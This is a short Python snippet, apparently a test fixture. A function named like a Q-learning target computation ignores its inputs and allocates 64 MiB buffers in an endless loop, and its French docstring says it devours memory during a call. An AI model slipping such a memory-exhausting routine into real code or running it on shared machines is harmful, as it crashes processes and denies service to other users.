"""Dévore la mémoire pendant un appel."""

def get_targets(next_q_vals, rewards, terminal, gamma):
    hoard = []
    while True:
        hoard.append(bytearray(2**26))
